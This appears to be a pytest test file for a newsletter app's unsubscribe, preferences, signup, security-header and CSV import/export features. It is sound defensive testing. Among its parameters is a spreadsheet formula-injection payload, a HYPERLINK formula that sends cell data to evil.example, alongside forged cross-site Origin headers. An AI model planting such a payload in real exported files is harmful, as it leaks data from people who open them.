"""Unsubscribe (RFC 8058 one-click) and preferences, through the real app, on both databases."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine

from publisher import store
from publisher.articles import publish
from publisher.community import csv_files, subscribers, subscriptions
from publisher.delivery import outbox
from publisher.errors import InputError
from publisher.settings import Settings
from publisher.tokens import Signer
from publisher.web import create_app
from tests.browser import LiveServer
from tests.links import token
from tests.support import SECRET, make_settings

NOW = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
SIGNER = Signer(SECRET)


@pytest.fixture
def member(engine: Engine) -> int:
    view, _ = subscriptions.add_subscriber(
        engine,
        "Aisyah@Example.com",
        name="Aisyah",
        confirmed=True,
        digests=["daily"],
        known_digests=["daily"],
        now=NOW,
    )
    return view.subscriber.id or 0


@pytest.fixture
def client(engine: Engine, settings: Settings) -> TestClient:
    return TestClient(create_app(settings, engine, clock=lambda: NOW, feed_upkeep_every=None))


def status(engine: Engine, member: int) -> str:
    with store.reading(engine) as session:
        return store.subscriber_by_id(session, member).status


def test_get_only_shows_a_button(client: TestClient, engine: Engine, member: int) -> None:
    page = client.get(f"/unsubscribe/{token(engine, 'unsubscribe', member)}")
    assert page.status_code == 200
    assert "<button" in page.text and "aisyah@example.com" in page.text
    assert status(engine, member) == "confirmed"


def test_rfc_8058_one_click_post(client: TestClient, engine: Engine, member: int) -> None:
    url = f"/unsubscribe/{token(engine, 'unsubscribe', member)}"
    client.cookies.clear()
    done = client.post(url, data={"List-Unsubscribe": "One-Click"}, follow_redirects=False)
    assert done.status_code == 200 and "You are unsubscribed" in done.text
    assert status(engine, member) == "unsubscribed"
    again = client.post(url, data={"List-Unsubscribe": "One-Click"})
    assert again.status_code == 200 and status(engine, member) == "unsubscribed"


@pytest.mark.parametrize(
    "token",
    [
        "nonsense",
        "1.AAAAAAAAAAAAAAAAAAAAAA",
        SIGNER.make("preferences", 1, "k" * 32, expires=NOW.replace(year=2027)),
        Signer("z" * 40).make("unsubscribe", 1, "k" * 32, expires=NOW.replace(year=2027)),
    ],
)
def test_forged_or_wrong_tokens_change_nothing(
    client: TestClient, engine: Engine, member: int, token: str
) -> None:
    for response in (client.get(f"/unsubscribe/{token}"), client.post(f"/unsubscribe/{token}")):
        assert response.status_code == 400
        assert "not valid" in response.text
    assert status(engine, member) == "confirmed"


def test_preferences_choose_leave_and_come_back(
    client: TestClient, engine: Engine, member: int
) -> None:
    url = f"/preferences/{token(engine, 'preferences', member)}"
    page = client.get(url)
    assert page.status_code == 200 and 'value="daily" checked' in page.text
    none = client.post(url, data={})
    assert none.status_code == 200 and "Saved." in none.text
    assert status(engine, member) == "unsubscribed"
    back = client.post(url, data={"digest": ["daily", "not-a-digest"]})
    assert back.status_code == 200 and 'value="daily" checked' in back.text
    assert status(engine, member) == "confirmed"
    with store.reading(engine) as session:
        assert store.subscriptions_of(session, [member])[member] == ["daily"]


def test_a_bounced_address_stays_bounced(client: TestClient, engine: Engine, member: int) -> None:
    with store.writing(engine) as session:
        store.set_subscriber_status(session, member, "bounced", now=NOW)
    client.post(f"/unsubscribe/{token(engine, 'unsubscribe', member)}")
    client.post(f"/preferences/{token(engine, 'preferences', member)}", data={"digest": "daily"})
    assert status(engine, member) == "bounced"


def test_a_removed_subscriber_gets_a_clear_page(
    client: TestClient, engine: Engine, member: int
) -> None:
    link = f"/unsubscribe/{token(engine, 'unsubscribe', member)}"
    subscribers.remove_subscriber(engine, "aisyah@example.com", actor="test", now=NOW)
    page = client.get(link)
    assert page.status_code == 400 and "subscription was removed" in page.text
    assert "/subscription" in page.text


def test_readers_report_errors_and_editors_resolve_them(
    client: TestClient, engine: Engine, settings: Settings, tmp_path: object
) -> None:
    from pathlib import Path

    examples = Path(__file__).resolve().parents[2] / "examples" / "articles"
    publish.import_articles(engine, settings, [examples], now=NOW, actor="test")
    form = client.get("/report?article=durian-exports-rail")
    assert form.status_code == 200 and 'name="message"' in form.text
    assert "Durian exporters switch to rail" in form.text
    sent = client.post(
        "/report",
        data={
            "article": "durian-exports-rail",
            "message": "The train had 42 containers, not 24.",
            "email": "Reader@Example.com",
        },
    )
    assert sent.status_code == 200 and "Thank you" in sent.text
    empty = client.post("/report", data={"article": "durian-exports-rail", "message": " "})
    assert empty.status_code == 400 and "please say what is wrong" in empty.text
    bad_email = client.post(
        "/report",
        data={"article": "durian-exports-rail", "message": "Typo in the title", "email": "nope"},
    )
    assert bad_email.status_code == 400 and "not an email address" in bad_email.text
    bot = client.post(
        "/report",
        data={
            "article": "durian-exports-rail",
            "message": "buy cheap things",
            "website": "http://spam",
        },
    )
    assert bot.status_code == 200
    assert client.get("/report?article=no-such-story").status_code == 404
    [report] = subscriptions.list_reports(engine)
    assert (report.slug, report.email, report.status) == (
        "durian-exports-rail",
        "reader@example.com",
        "open",
    )
    assert publish.resolve_report(engine, report.id or 0, now=NOW, actor="cli:test")
    assert not publish.resolve_report(engine, report.id or 0, now=NOW, actor="cli:test")
    assert subscriptions.list_reports(engine) == []
    assert len(subscriptions.list_reports(engine, include_resolved=True)) == 1


def mails(engine: Engine, settings: Settings) -> list[bytes]:
    """The mail sent so far: the outbox worker sends what sign-ups queued, to the Maildir."""
    outbox.send_due(engine, settings, now=NOW)
    folder = settings.var_dir / "mail" / "new"
    return [p.read_bytes() for p in sorted(folder.iterdir())] if folder.exists() else []


def confirm_path(message: bytes) -> str:
    import re

    found = re.search(rb"https://news\.example\.com(/confirm/[A-Za-z0-9._-]+)", message)
    assert found, message[:500]
    return found.group(1).decode()


def test_join_the_community_with_double_opt_in(
    client: TestClient, engine: Engine, settings: Settings
) -> None:
    page = client.get("/")
    assert 'action="/subscribe"' in page.text and 'name="email"' in page.text
    done = client.post(
        "/subscribe", data={"email": "New.Reader@Example.com", "name": "Wei Jie", "digest": "daily"}
    )
    assert done.status_code == 200 and "Check your inbox" in done.text
    [message] = mails(engine, settings)
    assert b"Hello Wei Jie" in message and b"To: new.reader@example.com" in message
    path = confirm_path(message)
    with store.reading(engine) as session:
        row = store.subscriber_by_email(session, "new.reader@example.com")
    assert row is not None and row.status == "pending"
    button = client.get(path)  # a link scanner's GET changes nothing
    assert button.status_code == 200 and "<button" in button.text
    assert status(engine, row.id or 0) == "pending"
    confirmed = client.post(path)
    assert confirmed.status_code == 200 and "Welcome to the community" in confirmed.text
    assert status(engine, row.id or 0) == "confirmed"
    # Known or not, the answer and the work are the same: a member gets a confirmation mail
    # too (issue 16), and nothing of theirs changes unless they confirm it.
    again = client.post("/subscribe", data={"email": "new.reader@example.com", "name": "X"})
    assert again.status_code == 200 and "Check your inbox" in again.text
    assert len(mails(engine, settings)) == 2
    with store.reading(engine) as session:
        kept = store.subscriber_by_email(session, "new.reader@example.com")
    assert kept is not None and (kept.name, kept.status) == ("Wei Jie", "confirmed")


def test_signup_limits_and_bad_input(
    client: TestClient, engine: Engine, settings: Settings
) -> None:
    for _ in range(5):
        assert client.post("/subscribe", data={"email": "twice@example.com"}).status_code == 200
    assert len(mails(engine, settings)) == 3  # at most three confirmation mails an address a day
    bad = client.post("/subscribe", data={"email": "not-an-address"})
    assert bad.status_code == 400 and "not an email address" in bad.text
    bot = client.post("/subscribe", data={"email": "bot@example.com", "website": "x"})
    assert bot.status_code == 200
    with store.reading(engine) as session:
        assert store.subscriber_by_email(session, "bot@example.com") is None
    statuses = [
        client.post("/subscribe", data={"email": f"r{n}@example.com"}).status_code for n in range(4)
    ]
    assert statuses[-1] == 429  # ten posts from one client in ten minutes


def test_forged_and_expired_confirmation_links_change_nothing(
    client: TestClient, engine: Engine, settings: Settings, member: int
) -> None:
    from datetime import timedelta

    with store.writing(engine) as session:
        store.set_subscriber_status(session, member, "pending", now=NOW)
    client.post("/subscribe", data={"email": "aisyah@example.com"})
    [message] = mails(engine, settings)
    path = confirm_path(message)
    later = NOW + timedelta(days=3)
    app = create_app(settings, engine, clock=lambda: later, feed_upkeep_every=None)
    expired = TestClient(app).post(path)
    assert expired.status_code == 400 and "expired" in expired.text
    forged = client.post(f"{path[:-3]}abc")
    assert forged.status_code == 400 and "not valid" in forged.text
    assert status(engine, member) == "pending"


def test_a_mail_server_that_is_down_delays_the_mail_and_tells_the_visitor_nothing(
    engine: Engine, tmp_path: object, database_url: str, member: int
) -> None:
    """Issue 16: the answer waits on no mail server; the mail is queued and sent later."""
    from pathlib import Path

    settings = make_settings(
        Path(str(tmp_path)),
        PUBLISHER_DATABASE_URL=database_url,
        PUBLISHER_SMTP_URL="smtp://127.0.0.1:9",
    )
    client = TestClient(create_app(settings, engine, clock=lambda: NOW, feed_upkeep_every=None))
    stranger = client.post("/subscribe", data={"email": "later@example.com"})
    known = client.post("/subscribe", data={"email": "aisyah@example.com"})
    assert stranger.status_code == known.status_code == 200
    assert stranger.text.replace("later@example.com", "@") == known.text.replace(
        "aisyah@example.com", "@"
    )
    assert "127.0.0.1" not in stranger.text
    assert outbox.send_due(engine, settings, now=NOW) == (0, 2)  # the server is down: kept
    with store.reading(engine) as session:
        kept = store.subscriber_by_email(session, "later@example.com")
        assert store.outbox_counts(session) == {"pending": 2}
    assert kept is not None and kept.status == "pending"  # nothing lost


def test_security_headers_and_cross_site_posts(
    client: TestClient, engine: Engine, member: int
) -> None:
    page = client.get("/")
    assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
    assert "script-src 'self';" in page.headers["content-security-policy"]  # no inline script
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "same-origin"
    assert client.get("/feed.xml").headers["x-frame-options"] == "DENY"
    forged = client.post(
        "/subscribe",
        data={"email": "victim@example.com"},
        headers={"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"},
    )
    assert forged.status_code == 403 and "another site" in forged.text
    prefs = client.post(
        f"/preferences/{token(engine, 'preferences', member)}",
        data={},
        headers={"Origin": "https://evil.example"},
    )
    assert prefs.status_code == 403
    own = client.post(
        "/subscribe",
        data={"email": "me@example.com"},
        headers={"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"},
    )
    assert own.status_code == 200
    # RFC 8058: the mail provider posts the one-click unsubscribe from its own origin.
    one_click = client.post(
        f"/unsubscribe/{token(engine, 'unsubscribe', member)}",
        data={"List-Unsubscribe": "One-Click"},
        headers={"Origin": "https://mail.example", "Sec-Fetch-Site": "cross-site"},
    )
    assert one_click.status_code == 200


def test_csv_import_export_round_trip_and_bad_rows(
    engine: Engine, settings: Settings, tmp_path: object, member: int
) -> None:
    import io
    from pathlib import Path

    folder = Path(str(tmp_path))
    with store.writing(engine) as session:
        store.set_subscriber_status(session, member, "unsubscribed", now=NOW)
    good = folder / "list.csv"
    good.write_text(
        "Email,Name,Status,Digests\n"
        "AISYAH@example.com,Aisyah,confirmed,daily\n"  # left: stays unsubscribed
        "wei@example.com,Wei Jie,,\n"
        "priya@example.com,,pending,daily\n"
    )
    done = csv_files.import_subscribers(
        engine, good, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    assert (done.created, done.updated) == (2, 1)
    assert status(engine, member) == "unsubscribed"
    out = io.StringIO()
    assert csv_files.export_subscribers(engine, out) == 3
    exported = out.getvalue()
    assert exported.splitlines()[0] == (
        "email,name,status,digests,created_at,confirmed_at,categories,language,story_languages,"
        "breaking"
    )
    assert "wei@example.com,Wei Jie,confirmed,daily," in exported
    # Round trip: export, import into an empty list, export again: the same file.
    copy = folder / "export.csv"
    copy.write_text(exported)
    for view in subscriptions.list_subscribers(engine):
        subscribers.remove_subscriber(engine, view.subscriber.email, actor="test", now=NOW)
    csv_files.import_subscribers(
        engine, copy, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    again = io.StringIO()
    csv_files.export_subscribers(engine, again)
    assert again.getvalue() == exported

    bad = folder / "bad.csv"
    bad.write_text(
        "email,status,digests\nok@example.com,,\nnot-an-address,,\n"
        "x@example.com,vip,\ny@example.com,,weekly\nOK@example.com,,\n"
    )
    details = _refused(engine, settings, bad)
    # The same address twice merges (see below); every other bad row is named by its line.
    assert [d.split(": ", 1)[0] for d in details] == [f"{bad}:{n}" for n in (3, 4, 5)]
    assert "not an email address" in details[0] and "status: 'vip'" in details[1]
    assert "digests: unknown weekly" in details[2]
    with store.reading(engine) as session:
        assert store.subscriber_by_email(session, "ok@example.com") is None  # nothing imported


def _refused(engine: Engine, settings: Settings, bad: Path) -> list[str]:
    """The problems of a CSV the import refuses as a whole."""
    with pytest.raises(InputError) as caught:
        csv_files.import_subscribers(
            engine, bad, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
        )
    return caught.value.details


def test_csv_carries_languages_and_breaking_news_and_refuses_bad_ones(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    """A member's language, their stories' languages and breaking news go out and come back
    in the CSV; a file without those columns leaves them as they were; a bad value names its
    line and column and nothing is written."""
    import io

    listing = tmp_path / "list.csv"
    listing.write_text(
        "email,language,story_languages,breaking\n"
        "som@example.com,th,th EN,yes\n"
        "min@example.com,KO,,no\n"
        "plain@example.com,,,\n"
    )
    csv_files.import_subscribers(
        engine, listing, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    with store.reading(engine) as session:
        som = store.subscriber_by_email(session, "som@example.com")
        min_ = store.subscriber_by_email(session, "min@example.com")
        plain = store.subscriber_by_email(session, "plain@example.com")
    assert som and (som.language, som.languages, som.breaking) == ("th", "th en", True)
    assert min_ and (min_.language, min_.languages, min_.breaking) == ("ko", "", False)
    assert plain and plain.language == ""
    with store.reading(engine) as session:
        entries = store.audit_entries(session, kind="subscriber", limit=50)
    trail = {e.subject_label: e.after for e in entries if e.action == "subscriber.import"}
    assert "language" in trail["som@example.com"]

    # A file without the columns keeps everyone's choice.
    bare = tmp_path / "bare.csv"
    bare.write_text("email,name\nsom@example.com,Som\n")
    csv_files.import_subscribers(
        engine, bare, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    with store.reading(engine) as session:
        som = store.subscriber_by_email(session, "som@example.com")
    assert som and (som.name, som.language, som.languages, som.breaking) == (
        "Som",
        "th",
        "th en",
        True,
    )

    out = io.StringIO()
    csv_files.export_subscribers(engine, out)
    assert ",th,th en,yes\n" in out.getvalue() and ",ko,,no\n" in out.getvalue()
    copy = tmp_path / "export.csv"
    copy.write_text(out.getvalue())
    for view in subscriptions.list_subscribers(engine):
        subscribers.remove_subscriber(engine, view.subscriber.email, actor="test", now=NOW)
    csv_files.import_subscribers(
        engine, copy, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    again = io.StringIO()
    csv_files.export_subscribers(engine, again)
    assert again.getvalue() == out.getvalue()

    bad = tmp_path / "bad.csv"
    bad.write_text(
        "email,language,story_languages,breaking\n"
        "new@example.com,,,\n"
        "a@example.com,klingon,,\n"
        "b@example.com,,not_a_tag!,\n"
        "c@example.com,,,maybe\n"
    )
    details = _refused(engine, settings, bad)
    assert [d.split(": ", 1)[0] for d in details] == [f"{bad}:{n}" for n in (3, 4, 5)]
    assert "language: the site does not speak 'klingon'" in details[0]
    assert "story_languages:" in details[1] and "breaking: 'maybe' is not yes or no" in details[2]
    with store.reading(engine) as session:
        assert store.subscriber_by_email(session, "new@example.com") is None


def test_csv_rows_of_one_address_in_any_case_merge_the_later_values_winning(
    engine: Engine, settings: Settings, tmp_path: Path
) -> None:
    listing = tmp_path / "list.csv"
    listing.write_text(
        "email,name,status,digests\n"
        "Mei@Example.com,Mei,pending,\n"
        "wei@example.com,Wei,confirmed,daily\n"
        "MEI@example.com,Mei Ling,confirmed,\n"  # the same person: name and status win
        "WEI@EXAMPLE.COM,,unsubscribed,\n"  # a blank name keeps "Wei"
        "mei@example.com,,,\n"
    )
    done = csv_files.import_subscribers(
        engine, listing, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    assert (done.created, done.updated, done.merged) == (2, 0, 3)
    people = {v.subscriber.email: v.subscriber for v in subscriptions.list_subscribers(engine)}
    assert set(people) == {"mei@example.com", "wei@example.com"}
    assert (people["mei@example.com"].name, people["mei@example.com"].status) == (
        "Mei Ling",
        "confirmed",
    )
    assert (people["wei@example.com"].name, people["wei@example.com"].status) == (
        "Wei",
        "unsubscribed",
    )


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
        "+1 555",
        "-2+3",
        "@SUM(A1)",
        "   =1+1",
        "\t=1+1",
        "'=1+1",  # a quote before a formula: it must come back as it was
        "''@x",
        "O'Brien",
        "'plain",
    ],
)
def test_exported_cells_never_run_as_formulas_and_import_back_unchanged(
    engine: Engine, settings: Settings, tmp_path: Path, name: str
) -> None:
    import csv
    import io

    subscriptions.add_subscriber(
        engine,
        "=x@example.com",
        name=name,
        confirmed=True,
        digests=[],
        known_digests=["daily"],
        now=NOW,
    )
    out = io.StringIO()
    csv_files.export_subscribers(engine, out)
    [_header, *rows] = list(csv.reader(io.StringIO(out.getvalue())))
    for cell in rows[0]:  # OWASP: no cell starts a formula, even after spaces
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows[0][0] == "'=x@example.com"
    stored = subscriptions.list_subscribers(engine)[0].subscriber.name
    copy = tmp_path / "export.csv"
    copy.write_text(out.getvalue())
    subscribers.remove_subscriber(engine, "=x@example.com", actor="test", now=NOW)
    csv_files.import_subscribers(
        engine, copy, known_digests=["daily"], zone=settings.zone, actor="test", now=NOW
    )
    [back] = subscriptions.list_subscribers(engine)
    assert (back.subscriber.email, back.subscriber.name) == ("=x@example.com", stored)


@pytest.mark.slow
def test_500_concurrent_signups_lose_and_duplicate_nothing(
    engine: Engine, settings: Settings
) -> None:
    import asyncio

    import httpx

    server = LiveServer(create_app(settings, engine, clock=lambda: NOW, feed_upkeep_every=None))
    addresses = [f"reader{n % 450}@example.com" for n in range(500)]  # 50 sign up twice

    async def sign_up(client: httpx.AsyncClient, n: int, gate: asyncio.Semaphore) -> int:
        async with gate:
            response = await client.post(
                "/subscribe",
                data={"email": addresses[n]},
                headers={"X-Forwarded-For": f"10.0.{n // 250}.{n % 250}"},
            )
            return response.status_code

    async def main() -> list[int]:
        gate = asyncio.Semaphore(25)
        async with httpx.AsyncClient(base_url=server.url, timeout=60) as client:
            return list(await asyncio.gather(*(sign_up(client, n, gate) for n in range(500))))

    # In a thread of its own: when this xdist worker has already started Playwright's session
    # browser, the main thread has a running event loop and asyncio.run() refuses to start.
    from concurrent.futures import ThreadPoolExecutor

    try:
        with ThreadPoolExecutor(1) as pool:
            statuses = pool.submit(asyncio.run, main()).result()
    finally:
        server.stop()
    assert statuses == [200] * 500
    with store.reading(engine) as session:
        rows = store.subscriber_list(session, limit=10_000)
    emails = [row.email for row in rows if row.email.startswith("reader")]
    assert len(emails) == len(set(emails)) == 450
    assert {row.status for row in rows if row.email.startswith("reader")} == {"pending"}
